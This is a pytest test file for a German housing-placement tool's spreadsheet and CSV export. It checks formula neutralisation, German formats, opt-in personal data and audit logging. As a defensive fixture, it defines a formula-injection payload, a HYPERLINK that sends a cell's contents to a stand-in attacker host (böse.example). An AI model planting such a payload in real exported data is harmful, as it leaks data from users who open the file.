"""Lists to .xlsx and CSV: formulas never run, German formats, personal data only when asked, audited."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from matcher.core import models as M
from matcher.core.db import Database, open_database
from matcher.core.demo import create_demo
from matcher.core.enums import PlacementState
from matcher.core.errors import MatcherError, ValidationFailed
from matcher.core.exchange import export as X
from matcher.core.services import queries

FORMULA = '=HYPERLINK("http://böse.example/?x="&A1;"Klick")'


@pytest.fixture
def demo(db: Database) -> Database:
    create_demo(db, households=30, seed=3)
    return db


def _first_flat(db: Database) -> int:
    return queries.flat_rows(db)[0].id


def _set_flat(db: Database, flat_id: int, **values: object) -> None:
    with db.session() as session:
        flat = session.get(M.Flat, flat_id)
        assert flat is not None
        for key, value in values.items():
            setattr(flat, key, value)


def _set_landlord_name(db: Database, flat_id: int, name: str) -> None:
    with db.session() as session:
        flat = session.get(M.Flat, flat_id)
        assert flat is not None
        landlord = session.get(M.Landlord, flat.landlord_id)
        assert landlord is not None
        landlord.name = name


def _csv_rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV without BOM: Excel would read UTF-8 as Windows-1252"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def _csv_record(path: Path, flat_id: int) -> dict[str, str]:
    header, *rows = _csv_rows(path)
    return next(dict(zip(header, row, strict=True)) for row in rows if row[0] == str(flat_id))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+49 591 1234", "'+49 591 1234"),
        ("-2", "'-2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("  =1+2", "'  =1+2"),
        ("Am Markt 1", "Am Markt 1"),
        ("Müller = Meier", "Müller = Meier"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_only_formula_starts(text, expected):
    assert X.neutralise(text) == expected


def test_formula_in_a_landlord_name_stays_text_in_xlsx(demo, tmp_path):
    flat_id = _first_flat(demo)
    _set_landlord_name(demo, flat_id, FORMULA)
    target = tmp_path / "wohnungen.xlsx"

    X.export_list(demo, "flats", target, columns=["id", "landlord", "street"])

    sheet = load_workbook(target).active
    assert [cell.value for cell in sheet[1]] == ["Nr.", "Vermieter", "Straße"]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == flat_id)
    assert row[1].value == "'" + FORMULA
    assert row[1].data_type == "s"  # a string cell, not a formula cell ("f")
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)


def test_formula_in_a_landlord_name_stays_text_in_csv(demo, tmp_path):
    flat_id = _first_flat(demo)
    _set_landlord_name(demo, flat_id, "@SUMME(1;2)")
    target = tmp_path / "wohnungen.csv"

    X.export_list(demo, "flats", target, columns=["id", "landlord"])

    assert _csv_record(target, flat_id)["Vermieter"] == "'@SUMME(1;2)"


def test_csv_has_german_numbers_dates_and_words(demo, tmp_path):
    flat_id = _first_flat(demo)
    _set_flat(
        demo, flat_id, net_rent_cents=123456, operating_costs_cents=10000, living_area_m2=52.5,
        available_from=date(2026, 2, 1), elevator=True, status="available",
    )  # fmt: skip
    target = tmp_path / "wohnungen.csv"

    X.export_list(demo, "flats", target)

    text = target.read_bytes().decode("utf-8-sig")
    assert "\r\n" in text and text.splitlines()[0].startswith("Nr.;Adresse;")
    record = _csv_record(target, flat_id)
    assert record["Nettokaltmiete (€)"] == "1.234,56"
    assert record["Bruttokaltmiete (€)"] == "1.334,56"
    assert record["Wohnfläche (m²)"] == "52,5"
    assert record["Frei ab"] == "01.02.2026"
    assert record["Aufzug"] == "ja"
    assert record["Status"] == "frei"


def test_xlsx_has_real_numbers_and_dates_with_german_formats(demo, tmp_path):
    flat_id = _first_flat(demo)
    _set_flat(demo, flat_id, net_rent_cents=123456, available_from=date(2026, 2, 1), living_area_m2=52.5)
    target = tmp_path / "wohnungen.xlsx"

    X.export_list(demo, "flats", target, columns=["id", "net_rent_cents", "available_from", "living_area_m2"])

    sheet = load_workbook(target).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == flat_id)
    assert row[1].value == pytest.approx(1234.56) and row[1].number_format == X.XLSX_MONEY
    assert row[2].value == datetime(2026, 2, 1) and row[2].number_format == X.XLSX_DATE
    assert row[3].value == 52.5


def test_rows_as_shown_are_written_in_the_chosen_order(demo, tmp_path):
    shown = [row for row in queries.placement_rows(demo) if row.state == "moved_in"]
    target = tmp_path / "vermittlungen.csv"

    result = X.export_list(demo, "placements", target, rows=shown, columns=["state", "id", "updated_at"])

    header, *rows = _csv_rows(target)
    assert header == ["Stand", "Nr.", "Zuletzt geändert"]
    assert result.rows == len(rows) == len(shown) > 0
    assert [row[1] for row in rows] == [str(row.id) for row in shown]
    assert {row[0] for row in rows} == {PlacementState.MOVED_IN.label}
    assert all(len(row[2]) == len("01.02.2026 13:45") for row in rows)


def test_personal_columns_only_when_asked(demo, tmp_path):
    target = tmp_path / "haushalte.xlsx"
    X.export_list(demo, "households", target)
    headers = [cell.value for cell in load_workbook(target).active[1]]
    assert "Antragsteller/in" not in headers and "Derzeitige Unterkunft" not in headers

    with pytest.raises(ValidationFailed) as refused:
        X.export_list(demo, "households", target, columns=["case_number", "applicant"])
    assert "personenbezogene Daten" in str(refused.value)

    X.export_list(demo, "households", target, columns=["case_number", "applicant"], personal_data=True)
    names = {row.applicant for row in queries.household_rows(demo)}
    written = {row[1].value for row in load_workbook(target).active.iter_rows(min_row=2)}
    assert written == names


def test_filters_take_the_stored_value_or_the_german_label(demo, tmp_path):
    available = [row.id for row in queries.flat_rows(demo) if row.status == "available"]
    for value in ("available", "Frei"):
        target = tmp_path / f"frei-{value}.csv"
        result = X.export_list(demo, "flats", target, columns=["id"], filters=[f"status={value}"])
        assert [int(row[0]) for row in _csv_rows(target)[1:]] == available
        assert result.rows == len(available) > 0


def test_wrong_calls_are_refused_in_german(demo, tmp_path):
    tmp_path = tmp_path / "ziel"
    tmp_path.mkdir()
    with pytest.raises(ValidationFailed, match="Unbekannte Spalten: miete"):
        X.export_list(demo, "flats", tmp_path / "a.xlsx", columns=["id", "miete"])
    with pytest.raises(ValidationFailed, match=r"\.xlsx oder \.csv"):
        X.export_list(demo, "flats", tmp_path / "a.ods")
    with pytest.raises(ValidationFailed, match="SPALTE=WERT"):
        X.export_list(demo, "flats", tmp_path / "a.csv", filters=["frei"])
    assert not list(tmp_path.iterdir())


def test_every_export_is_audited_without_personal_data(demo, tmp_path):
    X.export_list(demo, "households", tmp_path / "h.csv", columns=["id", "applicant"], personal_data=True)

    with demo.read_session() as session:
        entry = session.exec(select(M.AuditEntry).order_by(M.AuditEntry.id.desc())).first()  # type: ignore[union-attr]
        names = session.exec(select(M.Member.family_name)).all()
    assert entry is not None
    assert (entry.action, entry.entity, entry.user) == ("export", "households", demo.user)
    assert "30 Zeilen" in entry.description and "applicant" in entry.description
    assert "h.csv" not in entry.description
    assert not any(name in entry.description for name in names)


def test_without_an_audit_entry_there_is_no_file(demo, tmp_path):
    """A database opened read-only (someone else works in it) cannot record the export: no file."""
    assert demo.path is not None
    reader = open_database(path=demo.path, user="zweite.person", read_only=True)
    try:
        with pytest.raises(MatcherError, match="nur zum Lesen"):
            X.export_list(reader, "flats", tmp_path / "wohnungen.xlsx")
    finally:
        reader.dispose()
    assert not list(tmp_path.glob("*wohnungen*"))
